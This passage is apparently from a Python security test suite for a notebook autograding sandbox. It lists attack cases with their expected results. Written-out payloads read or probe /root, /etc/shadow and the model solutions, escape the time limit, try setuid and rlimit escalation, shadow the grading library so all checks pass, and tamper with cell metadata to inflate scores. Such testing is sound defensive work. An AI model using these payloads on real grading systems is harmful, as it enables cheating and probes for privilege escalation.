                         "    _extra = [e for e in os.listdir('/root') if e != '.pyenv']\n"
                         "    if _extra:\n        print('" + LEAK + "root]:', len(_extra), 'entries in /root')\n"
                         "except OSError:\n    pass\n"
                         "if os.access('/etc/shadow', os.R_OK):\n"
                         "    print('" + LEAK + "shadow]: /etc/shadow is readable (not read)')\n"
                         "for _path in glob.glob('@@KIT@@/assignments/source/*/*.ipynb'):\n"
                         "    _text = open(_path).read()\n    _at = _text.find('BEGIN SOLUTION')\n"
                         "    if _at >= 0:\n"
                         "        print('" + LEAK + "kit-solutions]:', _path, _text[_at:_at + 80])\n\n"
                         + WRONG_Q1},
           stock_safe=True, stock="lists /root, could read /etc/shadow, prints the kit's model solutions",
           stock_evidence="leak:kit-solutions", in_stock_run=True),
    Attack("atexit_handler", "registers an atexit handler that writes into the course folder after grading",
           {"q1_answer": "import atexit\n\ndef _after_grading():\n"
                         "    for _path in ('@@COURSE@@/atexit_@@STUDENT@@.txt', '../../../atexit_@@STUDENT@@.txt'):\n"
                         "        try:\n            with open(_path, 'w') as _f:\n"
                         "                _f.write('ran after grading')\n            return\n"
                         "        except OSError:\n            pass\n\natexit.register(_after_grading)\n\n" + WRONG_Q1},
           stock_safe=True, stock="the handler runs when the kernel shuts down, with the grader's rights",
           stock_evidence="atexit", in_stock_run=True),
    Attack("sigterm_ignore_loop", "ignores SIGTERM/SIGINT/SIGHUP/SIGXFSZ, then loops",
           {"q1_answer": "import signal\n\n"
                         "for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXFSZ):\n"
                         "    signal.signal(_sig, signal.SIG_IGN)\n\n" + WRONG_Q1 + "while True:\n    pass"},
           reason=r"time limit", needs_review=True, stock="nbclient's interrupt is ignored: a 120 s hang or worse"),
    Attack("shadow_raikit_file", "hands in raikit.py next to the notebook, shadowing the checks the tests import",
           {"q1_answer": WRONG_Q1, "q2_answer": WRONG_Q2},
           extra_files={"raikit.py": "import sys\nimport types\n\nchecks = types.ModuleType('raikit.checks')\n"
                                     "checks.__getattr__ = lambda name: (lambda *args, **kwargs: None)\n"
                                     "sys.modules['raikit.checks'] = checks\n"},
           stock_safe=True, stock="the kernel's working folder is on sys.path: the tests import the student's raikit",
           stock_points={"q1_tests": 2.0, "q2_tests": 2.0, "q3_naive": 0.0}, in_stock_run=True),
    Attack("shadow_worker_module", "hands in graders.py, which replaces the sandbox's own worker module",
           {"q1_answer": WRONG_Q1},
           extra_files={"graders.py": "import json, os, struct, sys\n"
                                      "def _send(m):\n    d = json.dumps(m).encode()\n"
                                      "    os.write(1, struct.pack('>I', len(d)) + d)\n"
                                      "while True:\n    h = os.read(0, 4)\n    if len(h) < 4:\n        os._exit(0)\n"
                                      "    n = struct.unpack('>I', h)[0]\n    b = b''\n"
                                      "    while len(b) < n:\n        b += os.read(0, n - len(b))\n"
                                      "    m = json.loads(b)\n    if m.get('op') == 'manifest':\n"
                                      "        _send({'names': {k: {'kind': 'callable'} for k in m['names']}})\n"
                                      "    elif m.get('op') == 'call':\n"
                                      "        _send({'ok': True, 'value': {'t': 'float', 'v': '4.0'}})\n"
                                      "    else:\n        _send({'ok': True, 'output': 'tests passed'})\n"},
           stock="no effect under stock (nothing imports graders in the kernel)"),
    Attack("raise_limits", "tries to raise its rlimits, setuid(0), and probes nested user namespaces",
           {"q1_answer": "import ctypes\nimport os\nimport resource\n\n"
                         "for _lim in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n"
                         "    try:\n"
                         "        resource.setrlimit(_lim, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
                         "        print('" + LEAK + "rlimit]: raised', _lim)\n"
                         "    except (ValueError, OSError) as exc:\n        print('cannot raise', _lim, exc)\n"
                         "try:\n    os.setuid(0)\n    print('" + LEAK + "setuid]')\nexcept OSError as exc:\n"
                         "    print('setuid ->', exc)\n_pid = os.fork()\nif _pid == 0:\n"
                         "    _ok = ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0\n"
                         "    os._exit(0 if _ok else 1)\n"
                         "print('NOTE[nested-userns]:', 'allowed' if os.waitpid(_pid, 0)[1] == 0 else 'refused')\n\n"
                         + WRONG_Q1},
           stock="runs as the grader's own user already"),
    # ------------------------------------------------------------ validation breakages
    Attack("invalid_json", "a truncated notebook file (not valid JSON)", dict(CORRECT), mutate=_truncate,
           reason=r"not valid JSON", needs_review=True, failed=True,
           stock="left out by collection (no score at all)"),
    Attack("empty_file", "an empty .ipynb file", mutate=lambda nb: "", reason=r"not valid JSON",
           needs_review=True, failed=True, stock="left out by collection (no score at all)"),
    Attack("nbformat_v3", "the notebook saved as nbformat 3", dict(CORRECT), mutate=_to_v3,
           sandbox_points=FULL, reason=r"format version 3", needs_review=True, stock="converted and graded"),
    Attack("test_cell_deleted", "deletes the test cell of the question it got wrong", dict(HALF),
           mutate=lambda nb: _delete(nb, "q2_tests"), sandbox_points=PARTIAL, reason=r"q2_tests is missing",
           needs_review=True, stock="the missing test is not run"),
    Attack("test_cell_duplicated", "puts a `pass` copy of the failing test cell (same grade_id) before it", dict(HALF),
           mutate=_duplicate_with_pass, sandbox_points=PARTIAL, reason=r"q2_tests appears 2 times",
           needs_review=True, stock="nbgrader de-duplicates ids and restores locked sources"),
    Attack("grade_cell_moved", "moves a test cell to the end of the notebook", dict(CORRECT),
           mutate=_move_test_to_end, sandbox_points=FULL, reason=r"moved out of their original order",
           needs_review=True, stock="runs the tests in the student's order"),
    Attack("solution_retyped_markdown", "turns the q1 answer cell (correct code) into markdown", dict(CORRECT),
           mutate=lambda nb: _retype(nb, "q1_answer", "markdown"),
           sandbox_points={"q1_tests": 0.0, "q2_tests": 2.0, "q3_naive": 0.0},
           reason=r"q1_answer changed type", needs_review=True, stock="nbgrader turns it back into code"),
    Attack("test_retyped_markdown", "turns the failing test cell into markdown so that it cannot run", dict(HALF),
           mutate=lambda nb: _retype(nb, "q2_tests", "markdown"), sandbox_points=PARTIAL,
           reason=r"q2_tests changed type", needs_review=True, stock="nbgrader turns it back into code"),
    Attack("locked_cell_edited", "edits the locked setup cell to patch the checks", {"q1_answer": WRONG_Q1},
           mutate=_edit_locked_setup, reason=r"locked cell setup was edited", needs_review=True,
           stock="nbgrader restores locked cells from the gradebook"),
    Attack("test_cell_edited", "replaces the failing test cell's source with `pass`", dict(HALF), mutate=_edit_test,
           sandbox_points=PARTIAL, needs_review=False,  # silently replaced by the source, NOT flagged (see report)
           stock="nbgrader restores it from the gradebook (a log warning only)"),
    Attack("points_inflated", "raises the points of a test cell and of the written answer in the metadata",
           dict(HALF), mutate=_inflate_points, sandbox_points=PARTIAL, needs_review=False,
           stock="nbgrader resets the points from the gradebook"),
    Attack("unknown_grade_cell", "adds a new graded test cell worth 10 points", dict(HALF),
           mutate=_unknown_grade_cell, sandbox_points=PARTIAL, reason=r"unknown grade cells", needs_review=True,
           stock="nbgrader drops the unknown grade id"),
    Attack("renamed_notebook", "hands the notebook in under another name", dict(CORRECT), filename="my_copy.ipynb",
           sandbox_points=FULL, reason=r"renamed", needs_review=True, stock="left out by collection (no score)"),
]

HONEST = {
    "honest_full": (CORRECT, FULL),
    "honest_partial": (HALF, PARTIAL),
    "honest_warns": (WARNS, FULL),
}
VICTIM = "honest_full"

assert len({a.name for a in ATTACKS}) == len(ATTACKS)
assert all(a.stock_safe for a in ATTACKS if a.in_stock_run)
